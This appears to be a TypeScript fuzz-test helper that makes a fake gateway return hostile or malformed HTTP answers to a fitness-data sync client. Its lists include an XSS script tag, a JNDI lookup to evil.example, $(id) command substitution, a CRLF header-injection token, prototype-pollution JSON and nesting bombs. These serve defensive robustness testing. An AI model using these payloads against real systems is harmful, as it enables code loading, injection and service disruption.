import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import type { Random } from '../../src/seed/random.ts';
import { PAYLOADS } from '../support/hostile.ts';
import { type GatewayRequest, answerBytes } from './gateway.ts';

/** Texts that harm a terminal, a log or a page, if they arrive there as they are. */
export const HOSTILE_TEXTS: readonly [string, ...string[]] = [
  ...PAYLOADS,
  '<script>alert(1)</script><b>bold</b>&amp;',
  '${jndi:ldap://evil.example/x} %s %n `id` $(id)',
  'x'.repeat(200_000),
  '',
  '🚴🏽‍♀️ Ünï',
];

/** Values of another type, or beyond what a field holds. */
const STRANGE: readonly [unknown, ...unknown[]] = [
  null,
  true,
  false,
  0,
  -1,
  1e308,
  '',
  'no',
  [],
  {},
  [null],
  [[]],
  { toString: 1, valueOf: null },
  { length: 4_294_967_295 },
];

/** JSON texts that no serializer of a service writes. None reports success. */
const TEXTS: readonly [string, ...string[]] = [
  '',
  ' ',
  '{',
  'null',
  'true',
  '0',
  '""',
  '[]',
  '{}',
  '[[{}]]',
  'NaN',
  '{"success":tru',
  '{"success":"true"}',
  '{"success":1}',
  '{"success":null}',
  '{"success":{}}',
  '{"success":true,"success":false}',
  '{"__proto__":{"success":true,"polluted":1}}',
  '{"constructor":{"prototype":{"polluted":1}},"__proto__":null}',
  `${'['.repeat(200_000)}${']'.repeat(200_000)}`,
  `${'{"a":'.repeat(200_000)}1${'}'.repeat(200_000)}`,
  `{"message":${'['.repeat(50_000)}${']'.repeat(50_000)}}`,
  `{"error":{"message":${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}}}`,
  `{"message":"${'y'.repeat(2_000_000)}"}`,
  `{"big":"${'z'.repeat(33_000_000)}"}`,
  `[${'0,'.repeat(300_000)}0]`,
  `{"n":1${'0'.repeat(100_000)}}`,
  '\ufeff{"success":false,"message":"after a byte order mark"}',
  '{"success":false}{"success":true}',
  '<!doctype html><title>\u001b[31mSign in</title>',
];

const STATUSES: readonly [number, ...number[]] = [
  200, 201, 202, 203, 205, 206, 226, 207, 300, 304, 400, 401, 403, 404, 407, 409, 418, 422, 429,
  451, 500, 502, 503, 599, 600, 700, 999, 199, 103, 101, 100, 99,
];

/** Headers that a client may trip over. */
const HEADERS: readonly [Readonly<Record<string, string>>, ...Readonly<Record<string, string>>[]] =
  [
    {},
    ...[
      ...['-1', '0', '0.5', '1e3', 'NaN', 'Infinity', '', '1, 2', '99999999999999999999', 'soon'],
      ...[
        'Wed, 21 Oct 2099 07:28:00 GMT',
        'Wed, 99 Xxx 2026 07:28:00 GMT',
        'Sun Nov  6 08:49:37 1994',
      ],
      ...['\u001b[31m5', '0x10', '١٢'],
    ].map((after) => ({ 'Retry-After': after })),
    { Date: 'nonsense', 'Retry-After': 'Thu, 01 Jan 1970 00:00:00 GMT' },
    ...['99999', '3', '-5', '1e2', '', '5, 5', '0x10'].map((length) => ({
      'Content-Length': length,
    })),
    { 'Transfer-Encoding': 'chunked' },
    { 'Transfer-Encoding': 'gzip, chunked', 'Content-Length': '5' },
    ...['gzip', 'br', 'deflate', 'identity', 'compress', 'gzip, gzip', 'x-evil'].map(
      (encoding) => ({ 'Content-Encoding': encoding }),
    ),
    ...[
      'text/html',
      'application/json; charset=utf-16le',
      'application/json; charset=\u001b[31m',
      'multipart/form-data; boundary=x',
      '',
    ].map((type) => ({ 'Content-Type': type })),
    { 'X-Long': 'h'.repeat(20_000) },
    Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`X-${index}`, 'v'])),
    { 'Set-Cookie': '__proto__=1', Proto: '__proto__', Connection: 'Upgrade', Upgrade: 'h2c' },
    { 'Keep-Alive': 'timeout=0, max=0', Connection: 'keep-alive' },
  ];

/** An answer of any shape. */
export interface HostileAnswer {
  /** For the notes of a round. */
  readonly name: string;
  /** Whether it says that the service did not act. */
  readonly refuses: boolean;
  readonly bytes: (request: GatewayRequest, real: Buffer) => Uint8Array;
}

/** Returns an answer that does not report success. The random choices are made now. */
export function hostileAnswer(random: Random): HostileAnswer {
  const status = random.chance(0.5) ? 200 : random.pick(STATUSES);
  const headers = random.chance(0.5) ? {} : random.pick(HEADERS);
  const drawn = bodyText(random);
  // An empty answer is a success of some services.
  const text = drawn.trim() === '' ? 'null' : drawn;
  const pack = random.pick([plain, plain, plain, gzipSync, deflateSync, brotliCompressSync]);
  const repeats = random.chance(0.05) ? 500 : 0;
  const name = `${status} ${short(JSON.stringify(headers))} ${short(text)} ${pack.name} ${repeats}`;
  return {
    name,
    refuses: (status >= 400 && status < 500) || text.includes('"success":false'),
    bytes: (request) => {
      const body = text.replaceAll(ECHO, tokenOf(request));
      const continues = Buffer.from('HTTP/1.1 100 Continue\r\n\r\n'.repeat(repeats));
      return new Uint8Array(
        Buffer.concat([continues, answerBytes(status, headers, pack(Buffer.from(body)))]),
      );
    },
  };
}

/**
 * Returns the service's own answer with strange values in some of its fields.
 *
 * @param hides whether it may hide what a nutrition day holds: `sync` then takes the service for one
 *   that replaces days (docs/nutrition.md)
 */
export function bentAnswer(random: Random, hides: boolean): HostileAnswer {
  const choices = Array.from({ length: 4 }, () => ({
    at: random.uint32(),
    value: random.chance(0.4) ? random.pick(HOSTILE_TEXTS) : random.pick(STRANGE),
  }));
  const pollutes = random.chance(0.2);
  return {
    name: `bent ${short(JSON.stringify(choices))}`,
    refuses: false,
    bytes: (_request, real) => {
      const value = readJson(real);
      for (const choice of choices)
        bend(value, choice.at, choice.value, hides ? TELLING : [...TELLING, 'data']);
      const text = JSON.stringify(value);
      const extra = '"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},';
      return answerBytes(200, {}, pollutes ? text.replace('{', `{${extra}`) : text);
    },
  };
}

/** The gateway puts the token of the request here. */
const ECHO = 'TOKEN-OF-THE-REQUEST';

function bodyText(random: Random): string {
  if (random.chance(0.5)) return random.pick(TEXTS);
  const text = random.chance(0.3) ? ECHO : random.pick(HOSTILE_TEXTS);
  const strange = random.pick(STRANGE);
  return JSON.stringify(
    random.pick<unknown>([
      { success: false, message: text },
      { success: false, results: { failed: 1, errors: [text, strange, { message: text }] } },
      { results: { total: 1, processed: 0, failed: 1, errors: [text] } },
      { error: text, error_description: text },
      { error: true, statusCode: strange, statusMessage: text, message: strange },
      {
        error: true,
        message: text,
        data: { issues: [{ path: [text, 0], message: text }, strange] },
      },
      { message: strange, data: strange, error: strange },
      { access_token: strange, token_type: text, expires_in: strange },
      { access_token: text, token_type: 'Bearer', expires_in: strange, scope: strange },
      { access_token: 'a\r\nX-Injected: 1', token_type: 'Bearer', expires_in: 3600 },
    ]),
  );
}

/** Returns the secret that a request carries: of its header, or of the body of a token request. */
function tokenOf({ headers, body }: GatewayRequest): string {
  const [, bearer] = /^Bearer (.+)$/.exec(headers.authorization ?? '') ?? [];
  const [, refresh] = /"refresh_token":"([^"]+)"/.exec(body.toString('latin1')) ?? [];
  return bearer ?? refresh ?? 'none';
}

function readJson(bytes: Buffer): unknown {
  try {
    return JSON.parse(bytes.toString());
  } catch {
    return {};
  }
}

/** Replaces one field below a value. @param telling fields that stay */
function bend(value: unknown, at: number, by: unknown, telling: readonly string[]): void {
  if (typeof value !== 'object' || value === null) return;
  const fields = value as Record<string, unknown>;
  const names = Object.keys(fields).filter((name) => !telling.includes(name));
  const name = names[at % Math.max(1, names.length)];
  if (name === undefined) return;
  const child = fields[name];
  const deeper = typeof child === 'object' && child !== null && Object.keys(child).length > 0;
  if (deeper && at % 5 !== 0) bend(child, Math.floor(at / 7), by, telling);
  else fields[name] = structuredClone(by);
}

/** Fields by which a service tells what it holds: without them, nobody can know. */
const TELLING = [
  'success',
  ...['results', 'access_token', 'refresh_token', 'expires_in', 'sub', 'scope'],
  ...['nutrition', 'breakfast', 'lunch', 'dinner', 'snacks', 'weight', 'weightUnits', 'ftp'],
];

function plain(bytes: Buffer): Buffer {
  return bytes;
}

function short(text: string): string {
  return text.length > 120 ? `${text.slice(0, 120)}... (${text.length})` : text;
}
